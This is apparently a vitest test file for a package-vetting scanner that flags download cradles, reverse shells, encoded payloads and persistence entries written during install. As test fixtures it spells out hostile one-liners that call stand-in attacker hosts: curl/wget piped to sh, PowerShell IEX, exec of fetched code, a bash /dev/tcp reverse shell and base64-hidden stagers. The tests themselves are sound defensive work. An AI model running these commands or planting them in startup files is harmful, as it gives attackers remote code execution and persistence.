import type { CapturedContent } from '@vetbox/contracts';
import { describe, expect, it } from 'vitest';
import { BehaviorBuilder, HOME } from '../__fixtures__/builder.js';
import { fired, run } from '../__fixtures__/run.js';
import { contentHit } from './content.js';

function captured(path: string, content: string, extra: Partial<CapturedContent> = {}): CapturedContent {
  return { phase: 'install', path, reason: 'persistence', size: content.length, sha256: 'b'.repeat(64), format: 'data', encoding: 'utf8', content, truncated: false, ...extra };
}

const withContents = (b: BehaviorBuilder, ...contents: CapturedContent[]) => {
  b.behavior.contents = contents;
  return b;
};

describe('contentHit', () => {
  const cradles = [
    'curl -fsSL http://c2.attacker.example/x | sh',
    'wget -qO- http://198.51.100.7/s | bash',
    'bash -c "$(curl -fsSL http://c2.attacker.example/i)"',
    'curl -so /tmp/.u http://c2.attacker.example/u && chmod +x /tmp/.u && /tmp/.u',
    'import urllib.request; exec(urllib.request.urlopen("http://c2.attacker.example/p").read())',
    'eval(await (await fetch("http://c2.attacker.example/p")).text())',
    "IEX (New-Object Net.WebClient).DownloadString('http://c2.attacker.example/x')",
  ];
  for (const line of cradles) it(`sees a download cradle in ${line.slice(0, 40)}…`, () => expect(contentHit(`# rc\nexport A=1\n${line}\n`)?.kind).toBe('cradle'));

  it('sees reverse shells and encoded payloads, also inside a base64 blob', () => {
    expect(contentHit('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')?.kind).toBe('reverse-shell');
    expect(contentHit('echo Y3VybCB4fHNo | base64 -d | sh')?.kind).toBe('encoded');
    expect(contentHit('import base64;exec(base64.b64decode("cHJpbnQoMSk="))')?.kind).toBe('encoded');
    const blob = Buffer.from('curl -fsSL http://c2.attacker.example/stage2 | sh  # padding to make the blob long enough').toString('base64');
    const hit = contentHit(`X="${blob}"`);
    expect(hit?.kind).toBe('encoded');
    expect(hit?.why).toMatch(/hides in base64 code that downloads a script/);
  });

  it('leaves ordinary start-up files and scripts alone', () => {
    const bashrc = '# ~/.bashrc\ncase $- in *i*) ;; *) return;; esac\nHISTSIZE=1000\nalias ll="ls -alF"\n[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"\nexport PATH="$HOME/.local/bin:$PATH"\n';
    expect(contentHit(bashrc)).toBeUndefined();
    expect(contentHit('import os\nimport sys\nsys.path.insert(0, os.path.dirname(__file__))\n')).toBeUndefined();
    expect(contentHit('#!/bin/sh\ncurl -fsSL https://example.org/install.txt -o install.txt\necho done\n')).toBeUndefined();
  });
});

describe('persistence-cradle', () => {
  it('is critical on its own for a cradle appended to ~/.bashrc, and shows the line escaped', () => {
    const b = withContents(new BehaviorBuilder(), captured(`${HOME}/.bashrc`, '# ~/.bashrc\nalias ll="ls -l"\ncurl -fsSL "http://c2.attacker.example/x" | sh\n'));
    const result = run(b);
    const [f] = fired(result, 'persistence-cradle');
    expect(f?.severity).toBe('critical');
    expect(f?.evidence[0]).toMatchObject({ kind: 'content', index: 0 });
    expect(f?.evidence[0]?.summary).toContain('~/.bashrc (written during install): "curl -fsSL \\"http://c2.attacker.example/x\\" | sh"');
    expect(result.verdict).toBe('malicious');
  });

  it('names an entry once, in the phase that first wrote it, when a later phase rewrites it', () => {
    const line = 'curl -fsSL http://c2.attacker.example/x | sh';
    const b = withContents(new BehaviorBuilder(), captured(`${HOME}/.bashrc`, `${line}\n`), captured(`${HOME}/.bashrc`, `${line}\n${line}\n`, { phase: 'idle', sha256: 'c'.repeat(64) }));
    const found = fired(run(b), 'persistence-cradle');
    expect(found.map((f) => f.phase)).toEqual(['install']);
  });

  it('does not fire for a persistence entry without a payload, nor for a dropped script', () => {
    const b = withContents(new BehaviorBuilder(), captured(`${HOME}/.profile`, 'export EDITOR=vim\n'), captured('/tmp/x.sh', 'curl http://c2.attacker.example/x | sh', { reason: 'script' }));
    expect(fired(run(b), 'persistence-cradle')).toHaveLength(0);
  });
});

describe('dropped-payload', () => {
  it('is high for a dropped cradle script and critical for a reverse shell', () => {
    const b = withContents(
      new BehaviorBuilder(),
      captured('/tmp/.s.sh', '#!/bin/sh\nwget -qO- http://198.51.100.7/s | bash\n', { reason: 'script', format: 'script' }),
      captured('/tmp/.r', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n', { reason: 'executable', format: 'script' }),
    );
    const severities = fired(run(b), 'dropped-payload').map((f) => f.severity).sort();
    expect(severities).toEqual(['critical', 'high']);
  });

  it('is high for a PE file package code tried to run, and silent when nothing ran it', () => {
    const b = new BehaviorBuilder();
    const sh = b.lifecycle('node x.js');
    b.file(sh, 'exec', '/tmp/update.exe', { result: 'ENOEXEC' });
    withContents(b, captured('/tmp/update.exe', 'TVqQAAMAAAAEAAAA', { reason: 'script', format: 'pe', encoding: 'base64' }), captured('/tmp/other.exe', 'TVqQ', { reason: 'script', format: 'pe', encoding: 'base64' }));
    const found = fired(run(b), 'dropped-payload');
    expect(found).toHaveLength(1);
    expect(found[0]?.title).toContain('Windows executable');
  });
});
